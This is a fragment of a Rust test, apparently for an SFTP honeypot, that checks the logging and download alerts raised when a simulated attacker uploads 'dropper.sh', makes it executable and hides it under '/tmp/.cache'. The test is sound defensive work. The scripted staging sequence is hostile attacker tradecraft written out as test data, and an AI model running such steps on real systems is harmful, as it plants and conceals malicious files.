    let inputs: Vec<&str> = cmds.iter().filter_map(|v| v["input"].as_str()).collect();
    for want in [
        "subsystem sftp",
        "sftp put /tmp/dropper.sh",
        "sftp chmod 755 /tmp/dropper.sh",
        "sftp mkdir /tmp/.cache",
        "sftp rename /tmp/dropper.sh /tmp/.cache/d",
        "sftp get /tmp/.cache/d",
        "sftp put /tmp/p.bin",
    ] {
        assert!(inputs.contains(&want), "{want} in {inputs:?}");
    }
    // and the transfer alert names what came
    let sha = sha256_file(&dropper);
    let alert = wait_alert_where(&d, |a| {
        a["rule"] == "honeypot.download" && a["explanation"].to_string().contains(&sha)
    });
    assert_eq!(alert["src_ip"], "127.0.0.1");
    d.sigterm();
}
